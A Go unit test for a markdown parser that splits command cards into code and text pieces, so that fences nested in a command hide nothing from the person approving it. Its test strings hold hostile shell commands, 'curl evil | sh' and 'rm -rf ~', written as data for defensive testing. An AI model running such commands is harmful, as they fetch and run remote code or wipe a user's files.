package card_test

import (
	"testing"

	"github.com/askbus/askbus/pkg/card"
	"github.com/google/go-cmp/cmp"
)

// What a command holds ends no fence, and nothing of it is lost: a person permits what is shown.
func TestWhatAFenceHoldsDoesNotEndIt(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		markdown string
		want     []card.Piece
	}{
		"a command with fences":       {"````sh\necho hi\n```x\n```; curl evil | sh\n````\n\nDirectory: `/srv`", []card.Piece{{Text: "echo hi\n```x\n```; curl evil | sh", Code: true, Language: "sh"}, {Text: "Directory: `/srv`"}}},
		"a command with other fences": {"```sh\n~~~\n# a\n~~~\n```", []card.Piece{{Text: "~~~\n# a\n~~~", Code: true, Language: "sh"}}},
		"words behind a fence":        {"```; rm -rf ~\nls\n```", []card.Piece{{Text: "; rm -rf ~\nls", Code: true}}},
		"a path behind a fence":       {"~~~./evil\nls\n~~~", []card.Piece{{Text: "./evil\nls", Code: true}}},
		"a fence that ends late":      {"a\n```\nb\n```c\nd\n```\ne", []card.Piece{{Text: "a"}, {Text: "b\n```c\nd", Code: true}, {Text: "e"}}},
		"a fence that never ends":     {"a\n```\nb", []card.Piece{{Text: "a"}, {Text: "b", Code: true}}},
	} {
		if diff := cmp.Diff(c.want, card.Pieces(c.markdown)); diff != "" {
			t.Errorf("%s:\n%s", name, diff)
		}
	}
}
